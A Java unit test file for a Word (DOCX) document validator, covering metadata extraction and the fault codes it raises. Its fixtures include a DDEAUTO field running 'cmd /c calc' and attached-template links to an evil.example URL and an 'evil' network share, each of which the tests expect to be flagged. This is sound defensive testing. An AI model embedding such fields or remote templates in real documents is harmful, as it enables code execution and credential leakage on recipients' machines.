package io.bindery.formats.docx;

import static io.bindery.formats.docx.Documents.book;
import static io.bindery.formats.docx.Documents.good;
import static io.bindery.formats.docx.Documents.p;
import static io.bindery.formats.docx.Documents.r;
import static io.bindery.formats.docx.Documents.relationships;
import static io.bindery.formats.docx.Documents.with;
import static org.assertj.core.api.Assertions.assertThat;

import io.bindery.api.finding.Finding;
import io.bindery.api.metadata.BookMetadata;
import io.bindery.api.metadata.ContentsEntry;
import io.bindery.api.metadata.Contributor;
import io.bindery.api.metadata.Identifier;
import io.bindery.api.metadata.MetadataField;
import io.bindery.api.metadata.Subject;
import io.bindery.api.metadata.Title;
import io.bindery.testkit.EpubBuilder;
import io.bindery.testkit.TestBook;
import io.bindery.testkit.TestStepContext;
import java.time.Instant;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** What is read of a Word document, and what fault is found with it. */
class DocxTraitsTest {

    private static List<Finding> findings(TestBook book) throws Exception {
        try (TestStepContext context = new TestStepContext()) {
            return new DocxHandler().validate(book, context).findings();
        }
    }

    private static List<String> codes(EpubBuilder document) throws Exception {
        return findings(book(document)).stream()
                .map(finding -> finding.severity() + " " + finding.code())
                .toList();
    }

    private static BookMetadata metadata(EpubBuilder document) throws Exception {
        try (TestStepContext context = new TestStepContext()) {
            return BookMetadata.EMPTY.apply(
                    new DocxHandler().extractMetadata(book(document), context), "docx", Instant.EPOCH);
        }
    }

    @Test
    void a_good_document_is_without_fault() throws Exception {
        assertThat(findings(book(good()))).isEmpty();
    }

    @Test
    void all_that_it_says_of_itself_is_read() throws Exception {
        BookMetadata book = metadata(good());
        assertThat(book.all(MetadataField.TITLES))
                .containsExactly(Title.main("The Winter Garden"), new Title("A year of snow", Title.Type.SUBTITLE));
        assertThat(book.all(MetadataField.CONTRIBUTORS))
                .containsExactly(
                        new Contributor("Ada White", "aut", "", true), new Contributor("Tom Reed", "aut", "", true));
        assertThat(book.all(MetadataField.LANGUAGES)).containsExactly("en-GB");
        assertThat(book.all(MetadataField.IDENTIFIERS)).containsExactly(new Identifier("ISBN", "9783161484100"));
        assertThat(book.all(MetadataField.SUBJECTS))
                .containsExactly(new Subject("", "", "garden"), new Subject("", "", "winter"));
        assertThat(book.first(MetadataField.DESCRIPTION)).contains("Of snow.");
        assertThat(book.first(MetadataField.MODIFIED)).contains("2025-01-02T03:04:05Z");
        assertThat(book.all(MetadataField.CONTENTS))
                .containsExactly(new ContentsEntry("First snow", "", 1), new ContentsEntry("Second", "", 1));
        assertThat(book.first(MetadataField.WORD_COUNT)).contains(26L);
        assertThat(book.first(MetadataField.FORMAT)).contains("Office Open XML, transitional");
    }

    @Test
    void without_properties_the_styles_of_titles_tell() throws Exception {
        BookMetadata book = metadata(good().remove("docProps/core.xml").remove("docProps/custom.xml"));
        assertThat(book.sourced(MetadataField.TITLES)).singleElement().satisfies(title -> {
            assertThat(title.value().text()).isEqualTo("The Winter Garden");
            assertThat(title.provenance().confidence()).isLessThan(1);
        });
        assertThat(book.all(MetadataField.LANGUAGES)).containsExactly("en-US");
    }

    private static EpubBuilder related(String... rows) {
        return good().add("word/_rels/document.xml.rels", relationships(rows));
    }

    static Stream<Arguments> faults() {
        String run = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>"
                + "<w:r><w:instrText>AUTO cmd \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        return Stream.of(
                Arguments.of("macros", good().add("word/vbaProject.bin", "x"), "ERROR BND-PROSE-009"),
                Arguments.of("ActiveX", good().add("word/activeX/activeX1.xml", "<x/>"), "ERROR BND-PROSE-009"),
                Arguments.of("a field that starts a program", with("<w:p>" + run + "</w:p>"), "ERROR BND-PROSE-009"),
                Arguments.of(
                        "a remote template",
                        good().add(
                                        "word/_rels/settings.xml.rels",
                                        relationships("attachedTemplate https://evil.example/t.dotm out")),
                        "ERROR BND-PROSE-011"),
                Arguments.of(
                        "a template on a share",
                        good().add(
                                        "word/_rels/settings.xml.rels",
                                        relationships("attachedTemplate file:///\\\\evil\\t.dotm out")),
                        "ERROR BND-PROSE-011"),
                Arguments.of(
                        "the author's own template",
                        good().add(
                                        "word/_rels/settings.xml.rels",
                                        relationships("attachedTemplate file:///C:\\T\\Book.dotm out")),
                        "WARNING BND-PROSE-011"),
                Arguments.of(
                        "a remote picture",
                        related("styles styles.xml", "image https://a.b/c.png out"),
                        "WARNING BND-PROSE-010"),
                Arguments.of(
                        "a missing picture",
                        related("styles styles.xml", "image media/lost.png"),
                        "ERROR BND-PROSE-013"),
                Arguments.of(
                        "an object of another program",
                        related("styles styles.xml", "oleObject embeddings/o.bin")
                                .add("word/embeddings/o.bin", "x"),
                        "WARNING BND-PROSE-012"),
                Arguments.of(
                        "an embedded font",
                        related("styles styles.xml", "font fonts/f.odttf").add("word/fonts/f.odttf", "x"),
                        "INFO BND-PROSE-021"),
                Arguments.of("a missing part", related("styles gone.xml"), "WARNING BND-PROSE-022"),
                Arguments.of(
                        "tracked changes",
                        with("<w:p><w:ins w:id=\"1\">" + r("new") + "</w:ins></w:p>"),
                        "WARNING BND-PROSE-007"),
                Arguments.of(
                        "comments",
                        with("<w:p>" + r("odd") + "<w:r><w:commentReference w:id=\"1\"/></w:r></w:p>"),
                        "WARNING BND-PROSE-008"),
                Arguments.of(
                        "no headings",
                        good().add(Documents.MAIN, Documents.body("<w:p>" + r("Only text.") + "</w:p>")),
                        "WARNING BND-PROSE-005"),
                Arguments.of(
                        "no text",
                        good().remove("word/footnotes.xml").add(Documents.MAIN, Documents.body("<w:p/>")),
                        "ERROR BND-PROSE-003"),
                Arguments.of(
                        "no title",
                        good().remove("docProps/core.xml")
                                .add(Documents.MAIN, Documents.body(p("berschrift1", r("One")))),
                        "WARNING BND-PROSE-004"),
                Arguments.of(
                        "a cut-off text", good().add(Documents.MAIN, "<w:document><w:body>"), "FATAL BND-PROSE-001"),
                Arguments.of("no main part", good().remove(Documents.MAIN), "ERROR BND-DOCX-002"),
                Arguments.of("no content types", good().remove("[Content_Types].xml"), "ERROR BND-PROSE-022"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("faults")
    void each_fault_has_its_code(String trait, EpubBuilder document, String code) throws Exception {
        assertThat(codes(document)).contains(code);
    }

    @Test
    void a_finding_says_where_it_is() throws Exception {
        List<Finding> findings = findings(book(with("\n\n<w:p><w:ins>" + r("new") + "</w:ins></w:p>")));
        assertThat(findings).singleElement().satisfies(finding -> {
            assertThat(finding.location().path()).isEqualTo("word/document.xml");
            assertThat(finding.location().line()).isEqualTo(4);
            assertThat(finding.remedy()).isNotBlank();
        });
    }

    @ParameterizedTest
    @CsvSource({"EncryptedPackage, BND-PROSE-015", "WordDocument, BND-DOCX-001", "Workbook, BND-DOCX-002"})
    void a_compound_file_is_refused_with_what_it_is(String stream, String code) {
        TestBook book = TestBook.of("book.docx", DocxHandler.DOCX, OleFiles.of(stream));
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> findings(book))
                .isInstanceOfSatisfying(
                        io.bindery.api.error.RejectedException.class,
                        e -> assertThat(e.code().code()).isEqualTo(code));
    }
}
